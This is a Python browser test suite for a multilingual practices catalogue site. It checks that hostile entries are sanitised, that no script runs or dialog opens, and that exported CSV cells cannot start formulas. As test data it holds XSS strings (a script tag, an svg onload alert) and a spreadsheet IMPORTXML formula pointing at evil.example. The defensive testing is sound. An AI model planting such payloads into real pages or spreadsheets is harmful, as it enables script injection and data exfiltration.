"""Every page of the site, with hostile entries, opened in chromium: no script from
content runs, no dialog opens, nothing is requested from another origin."""

from __future__ import annotations

import csv
import re
from dataclasses import dataclass, field
from pathlib import Path

import ada_url
import html5lib
import pytest

from catalogue.model import vocabularies
from catalogue.pages import sanitise

from tests.browser import SiteServer, visit_all
from tests.conftest import PAST_THE_VALIDATOR, hostile_practices

# Every payload in tests/fixtures/hostile sets window.__pwned or calls alert().
PAYLOAD_MARKERS = ("__pwned", "alert(")
# Inline event handlers, script-bearing URLs, and scripts quoting a payload, in the live DOM.
DOM_CHECK = """() => {
  const found = [];
  for (const element of document.querySelectorAll('*')) {
    for (const attribute of element.attributes) {
      const value = attribute.value.trim().toLowerCase();
      if (attribute.name.startsWith('on')) found.push(`${element.tagName} ${attribute.name}`);
      if (['href', 'src', 'action', 'formaction', 'data'].includes(attribute.name)
          && (value.startsWith('javascript:') || value.startsWith('data:text/html')))
        found.push(`${element.tagName} ${attribute.name}=${attribute.value}`);
    }
  }
  // Data blocks (JSON-LD) quote entry text and never run; any other script must not.
  const data = ['application/ld+json', 'application/json'];
  for (const script of document.scripts)
    if (!data.includes(script.type) && (script.text.includes('__pwned') || script.text.includes('alert(')))
      found.push('script: ' + script.text.slice(0, 80));
  return {found, pwned: window.__pwned === undefined ? null : String(window.__pwned), lang: document.documentElement.lang};
}"""


@dataclass
class Visit:
    origin: str
    dialogs: list[str] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    failed: list[str] = field(default_factory=list)  # responses of status 400 or more
    injected: list[str] = field(default_factory=list)
    pwned: str | None = None
    lang: str = ""


async def inspect(page, base: str, url: str) -> Visit:
    visit = Visit(origin=base.rstrip("/"))

    async def dismiss(dialog):
        visit.dialogs.append(dialog.message)
        await dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("request", lambda request: visit.requests.append(request.url))
    page.on("response", lambda response: response.status >= 400 and visit.failed.append(f"{response.status} {response.url}"))
    await page.goto(base + url, wait_until="networkidle")
    for _ in range(3):
        try:
            seen = await page.evaluate(DOM_CHECK)
            break
        except Exception as error:  # noqa: BLE001 - a redirect page moved on while it was read: read where it led
            if "context was destroyed" not in str(error):
                raise
            await page.wait_for_load_state("networkidle")
    else:
        raise AssertionError(f"{url} kept navigating")
    visit.injected, visit.pwned, visit.lang = seen["found"], seen["pwned"], seen["lang"]
    return visit


@pytest.fixture(scope="module")
def visits(hostile_site: Path) -> dict[str, Visit]:
    """Each page of the hostile site, loaded until the network is idle, and what happened."""
    return visit_all(hostile_site, inspect)


def test_every_page_was_visited(visits: dict[str, Visit], hostile_site: Path):
    assert len(visits) == len(list(hostile_site.rglob("*.html"))) > 100
    for practice in hostile_practices():
        for prefix in ("", "pl/", "sk/"):
            assert f"{prefix}practices/{practice.name}/" in visits


def test_bodies_past_the_validator_reached_the_pages_sanitised(hostile_site: Path):
    """The bodies the validator would refuse were built; what is left of them is on the allow-list."""
    for practice in sorted(PAST_THE_VALIDATOR.iterdir()):
        if not practice.is_dir():
            continue
        page = (hostile_site / "practices" / practice.name / "index.html").read_text(encoding="utf-8")
        assert "Kontext a potřeba" in page
        body = page[page.index('<div class="practice-body"') : page.index('<section class="cite"')]
        assert "<!--" not in body
        tree = html5lib.parseFragment(body, treebuilder="etree", namespaceHTMLElements=False)
        for element in list(tree.iter())[1:]:
            assert isinstance(element.tag, str), f"{practice.name}: a comment"
            assert element.tag in sanitise.TAGS, f"{practice.name}: <{element.tag}>"
            allowed = sanitise.ATTRIBUTES["*"] | sanitise.ATTRIBUTES.get(element.tag, set())
            if element.tag == "div" and element.get("class") == "practice-body":
                allowed = allowed | {"lang"}
            assert set(element.attrib) <= allowed, f"{practice.name}: <{element.tag} {element.attrib}>"
            for name in ("href", "src"):
                if name in element.attrib:
                    url = ada_url.URL(element.attrib[name], f"https://site.invalid/practices/{practice.name}/")
                    assert url.origin == "https://site.invalid" or (name == "href" and url.protocol in ("http:", "https:", "mailto:"))


def test_no_cell_of_the_csv_starts_a_formula(hostile_site: Path):
    """Every cell, and every item of a list cell, that a spreadsheet would read as a formula starts with '."""
    with open(hostile_site / "catalogue.csv", encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    row = next(row for row in rows if row["id"] == "vzorce-v-tabulce")
    assert row["title_cs"].startswith("'=HYPERLINK(")
    assert row["funding"].split("; ") == ["'=IMPORTXML(\"https://evil.example/\", \"//a\")", "'-1+1 Grant"]
    assert row["partners"].split("; ")[0] == "'\tPartner s tabulátorem =1+1"
    for row in rows:
        for name, value in row.items():
            for item in [value, *value.split("; ")]:
                number = re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", item)
                assert not item.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) or number, (row["id"], name, item)


def test_no_script_from_content_ran(visits: dict[str, Visit]):
    assert {url: visit.pwned for url, visit in visits.items() if visit.pwned} == {}
    assert {url: visit.injected for url, visit in visits.items() if visit.injected} == {}


def test_no_dialog_opened(visits: dict[str, Visit]):
    assert {url: visit.dialogs for url, visit in visits.items() if visit.dialogs} == {}


def test_nothing_is_requested_from_another_origin(visits: dict[str, Visit]):
    foreign = {
        url: [request for request in visit.requests if not request.startswith(visit.origin + "/")]
        for url, visit in visits.items()
    }
    assert {url: requests for url, requests in foreign.items() if requests} == {}
    # The recording works: each page asked for itself, its stylesheets and the theme's script.
    for url, visit in visits.items():
        assert visit.requests[0] == f"{visit.origin}/{url}", url
        assert any(request.endswith(".css") for request in visit.requests), url
        assert any(request.endswith(".js") for request in visit.requests), url


def test_no_request_of_any_page_fails(visits: dict[str, Visit]):
    # A failed request is wasted, and logged as an error in the console.
    assert {url: visit.failed for url, visit in visits.items() if visit.failed} == {}


def test_html_lang_is_the_language_of_the_page(visits: dict[str, Visit]):
    other = [lang for lang in vocabularies.languages() if lang != vocabularies.default_language()]
    for url, visit in visits.items():
        if url.startswith("p/"):  # a short link, in no language, sends the reader on to one
            assert visit.lang in vocabularies.languages(), url
            continue
        expected = next((lang for lang in other if url.startswith(f"{lang}/")), vocabularies.default_language())
        assert visit.lang == expected, url


def test_hostile_text_is_shown_as_text(browser, hostile_site: Path):
    with SiteServer(hostile_site) as server:
        page = browser.new_page()
        page.goto(server.url + "practices/zle-nazvy/")
        assert page.locator("h1").first.inner_text() == "<script>window.__pwned='title'</script> Škodlivý název"
        assert page.title().startswith("<script>window.__pwned='title'</script> Škodlivý název - ")
        page.goto(server.url + "practices/zly-odkaz/")
        contact = page.get_by_role("link", name="info\"><svg/onload=alert('contact')>@knihovna.example")
        assert contact.get_attribute("href") == "mailto:info\"><svg/onload=alert('contact')>@knihovna.example"
        page.close()
